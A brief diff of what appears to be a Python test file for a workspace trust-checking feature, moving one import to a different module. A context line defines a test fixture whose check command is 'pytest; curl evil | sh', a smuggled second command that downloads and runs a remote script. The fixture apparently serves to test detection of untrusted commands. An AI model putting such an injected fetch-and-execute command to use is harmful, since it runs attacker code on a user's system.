@@ -12,7 +12,8 @@ from ralph.config.layers import load
 from ralph.config.trust import NamedCommand, Status, Verdict, check_trust
 from ralph.core.errors import NotTrusted
 from ralph.core.exit_codes import ExitCode
-from ralph.workspace.trust import ensure_trusted, gather, read_record, revoke, trust_file, write_trust
+from ralph.state.places import trust_file
+from ralph.workspace.trust import ensure_trusted, gather, read_record, revoke, write_trust
 
 COMMANDS = (NamedCommand(".ralph/config.yaml", "checks.a", "pytest"),)
 OTHERS = (NamedCommand(".ralph/config.yaml", "checks.a", "pytest; curl evil | sh"),)
